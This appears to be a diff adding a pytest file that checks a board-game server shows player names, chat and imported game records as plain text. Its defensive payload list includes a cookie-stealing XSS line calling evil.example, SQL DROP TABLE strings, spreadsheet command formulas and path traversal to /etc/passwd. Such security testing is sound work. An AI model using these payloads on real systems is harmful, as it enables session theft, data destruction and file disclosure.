@@ -1,0 +1,269 @@
+"""Whatever people write comes out as the text it is: 200 scripts that do not run."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import unicodedata
+import urllib.request
+from itertools import product
+from typing import TYPE_CHECKING
+
+import pytest
+
+from blockness.game import Record
+from blockness.server.phrases import MOST_NAME, MOST_TEXT, cleaned
+from server.guest import Guest, Refused, call, make_room
+from server.services import Server, serving
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+TAGS = ["script", "img", "svg", "iframe", "body", "video", "object", "math", "a", "style"]
+HANDLERS = ["onerror", "onload", "onclick", "onfocus autofocus", "onmouseover"]
+CALLS = ["alert(1)", "fetch('//evil.example?'+document.cookie)"]
+MADE = [f"<{tag} src=x {handler}={call}>" for tag, handler, call in product(TAGS, HANDLERS, CALLS)]
+SHORT = [
+    "<script>x()</script>",
+    "<b onclick=x()>",
+    "<img src=x>",
+    "<svg/onload=x()>",
+    "<!--",
+    "-->",
+    "]]>",
+    "<![CDATA[",
+    "</title><script>",
+    "</textarea>",
+    "</script>",
+    '"><script>',
+    "'><script>",
+    '" onload="x()',
+    "' onload='x()",
+    "` onload=x()",
+    "javascript:x()",
+    "JaVaScRiPt:x()",
+    "java\tscript:x()",
+    "data:text/html,<p>",
+    "vbscript:x",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "&#x3c;b&#x3e;",
+    "\\x3cscript\\x3e",
+    "\\u003cscript\\u003e",
+    "%3Cscript%3E",
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{% raw %}",
+    "[[7*7]]",
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|' /C'",
+    "'; DROP TABLE room;--",
+    '"; DROP TABLE room;',
+    "1' OR '1'='1",
+    "Robert'); --",
+    "\\",
+    '"',
+    "'",
+    "]",
+    '"]',
+    "[Orange]",
+    '\\"',
+    "{comment}",
+    "} Sd4f4 {",
+    "../../etc/passwd",
+    "/etc/passwd",
+    "C:\\x",
+    "file:///etc/passwd",
+    "%s%s%n",
+    "%(name)s",
+    "{0.__class__}",
+    "__proto__",
+    "constructor",
+    "toString",
+    "null",
+    "undefined",
+    "NaN",
+    "true",
+    "-1",
+    "1e309",
+    "$colour",
+    "{ $colour }",
+    "{ monster }",
+    "{ -brand }",
+    "*[other] x",
+    "\r\nSet-Cookie: x=1",
+    "x\r\n\r\n<p>",
+    "a\nb",
+    "a\x00b",
+    "a\x1b[31mb",
+    "a\x7fb",
+    "a\x85b",
+    "a\u2028b",
+    "a\u2029b",
+    "\u202egnp.exe",
+    "a\u202eb\u202c",
+    "\u2066a\u2069",
+    "\u200fa",
+    "a\u200bb",
+    "a\u200db",
+    "a\ufeffb",
+    "a\xadb",
+    "a\U000e0041b",
+    "\u3164",
+    "\u2800\u115f",
+    "\ufeff",
+    "ＡＢＣ＜ｓｃｒｉｐｔ＞",
+    "‹script›",
+    "＜b＞",
+    "ʺ><b",
+    "a\u0338b",
+    "z\u0301\u0302\u0303algo",
+    "İıſK",
+    "ﬁ ß",
+    "😀<b>",
+    "أهلا",
+    "שלום",
+    "Нэсси",
+    "尼斯湖",
+]
+PAYLOADS = [*MADE, *SHORT]
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    with serving(f"sqlite:///{tmp_path_factory.mktemp('injection')}/rooms.sqlite") as one:
+        yield one
+
+
+def seen(text: str) -> str:
+    """What is left of a text: said once more, in other words than the server's."""
+    fillers = "\u115f\u1160\u2800\u3164\uffa0"
+    kept: list[str] = []
+    for character in text:
+        kind = unicodedata.category(character)
+        if kind in {"Cc", "Zl", "Zp", "Zs"} or character in fillers:
+            kept.append(" ")
+        elif kind not in {"Cf", "Cs", "Co", "Cn"}:
+            kept.append(character)
+    return " ".join("".join(kept).split())
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(set(PAYLOADS)) >= 200
+
+
+@pytest.mark.parametrize("text", SHORT)
+def test_only_what_cannot_be_seen_is_taken_away(text: str) -> None:
+    assert cleaned(text) == seen(text)
+    assert cleaned(cleaned(text)) == cleaned(text)
+    assert cleaned(text).isprintable()
+
+
+def fetch(address: str) -> tuple[str, str, str]:
+    """Return the kind of an answer, how it is to be shown, and its text."""
+    with urllib.request.urlopen(address, timeout=30) as answer:  # noqa: S310 - our own
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        kind, shown = answer.headers["Content-Type"], answer.headers["Content-Disposition"] or ""
+        return kind, shown, answer.read().decode()
+
+
+def test_names_come_out_as_text(server: Server) -> None:
+    """As made with the room, in its state, in its record and in a replay."""
+    for text in PAYLOADS:
+        name = seen(text)
+        body = {"seats": [{"colour": "orange", "name": text}, {"colour": "green", "level": "otter"}]}
+        status, made = call(f"{server.address}/api/rooms", body)
+        if not 0 < len(name) <= MOST_NAME:
+            assert (status, made["extra"]["code"]) in {
+                (422, "name-missing"),
+                (422, "name-too-long"),
+                (400, "malformed"),
+            }
+            continue
+        assert status == 201, text
+        address = f"{server.address}/api/rooms/{made['code']}"
+        kind, _, answer = fetch(address)
+        assert kind == "application/json"
+        assert json.loads(answer)["seats"][0]["name"] == name
+        kind, _, answer = fetch(f"{address}/games/1")
+        assert kind == "application/json"
+        assert json.loads(answer)["headers"]["Orange"] == name
+        kind, shown, answer = fetch(f"{address}/games/1/record")
+        assert kind == "text/plain; charset=utf-8"
+        assert shown == f'attachment; filename="block-ness-{made["code"]}-1.txt"'
+        assert Record.read(answer).headers["Orange"] == name
+        assert call(f"{server.address}/api/records", {"record": answer})[1]["headers"]["Orange"] == name
+
+
+def test_talk_comes_out_as_text(server: Server) -> None:
+    made = make_room(server.address, [{"name": "Ann"}, {"name": "Bob"}], free_text=True, first=0)
+    watch = (server.address, made["code"])
+
+    async def talk() -> None:
+        async with Guest(server.address, made["code"], made["tokens"].values()) as ann, Guest(*watch) as watching:
+            for number, text in enumerate(PAYLOADS):
+                words = seen(text)
+                if not 0 < len(words) <= MOST_TEXT:
+                    with pytest.raises(Refused, match="text-too-long" if words else "no-such-phrase"):
+                        await ann.ask("say", seat=0, text=text)
+                    continue
+                answer = await ann.ask("say", seat=0, text=text)
+                await watching.until(lambda answer=answer: answer["number"] in watching.events)
+                said = watching.events[answer["number"]]
+                assert (said["kind"], said["text"]) == ("said", words)
+                if number % 20 == 0:
+                    await ann.play(ann.moves[0])  # so that there is more to say
+                    await ann.until(lambda answer=answer: ann.version > answer["number"])
+
+    asyncio.run(talk())
+
+
+def record_with(text: str) -> str:
+    """A record that somebody else has written: names, events and comments."""
+    quoted = text.replace("\\", "\\\\").replace('"', '\\"')
+    return f'[Variant "classic"]\n[Seats "orange green"]\n[Event "{quoted}"]\n[Orange "{quoted}"]\n\nSd4f4 {{{text}}}\n'
+
+
+def test_records_from_elsewhere_come_out_as_text(server: Server) -> None:
+    read = 0
+    for text in PAYLOADS:
+        status, answer = call(f"{server.address}/api/records", {"record": record_with(text)})
+        if status != 200:  # no record any more: its lines or braces are broken
+            assert answer["extra"]["code"] == "invalid-record"
+            assert set(text) & set("{}\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"), text
+            continue
+        read += 1
+        assert answer["headers"]["Event"] == answer["headers"]["Orange"] == seen(text), text
+        assert answer["steps"][0]["comment"] == seen(text), text
+    assert read > 180
+
+
+def test_a_record_is_never_the_name_of_a_file(server: Server) -> None:
+    for name in ("/etc/passwd", "pyproject.toml", "../../pyproject.toml", "rooms.sqlite", "/proc/self/environ", "\x00"):
+        status, answer = call(f"{server.address}/api/records", {"record": name})
+        assert (status, answer["extra"]["code"]) == (422, "invalid-record")
+        assert "root:" not in str(answer)
+
+
+def test_a_record_of_another_box_is_not_read(server: Server) -> None:
+    """Making a box ready takes long, and it would stay: anybody could fill the memory."""
+    line = Record.read(record_with("x")).position.box.line
+    for box, status in ((line, 200), (line.replace("3/6", "4/6"), 422)):
+        text = record_with("x").replace("[Event", f'[Box "{box}"]\n[Event')
+        got, answer = call(f"{server.address}/api/records", {"record": text})
+        assert got == status
+        assert status == 200 or answer["extra"]["code"] == "other-box"
+
+
+def test_no_answer_is_ever_a_page(server: Server) -> None:
+    """A problem quotes what it was asked, as JSON."""
+    for text in PAYLOADS[::10]:
+        for path, body in (("/api/records", {"record": text}), ("/api/lakes", {"position": text})):
+            request = urllib.request.Request(f"{server.address}{path}", json.dumps(body).encode(), method="POST")  # noqa: S310
+            with pytest.raises(urllib.error.HTTPError) as refused:
+                urllib.request.urlopen(request, timeout=30)  # noqa: S310 - our own
+            assert refused.value.headers["Content-Type"] == "application/json"
+            assert refused.value.headers["X-Content-Type-Options"] == "nosniff"
+            refused.value.close()
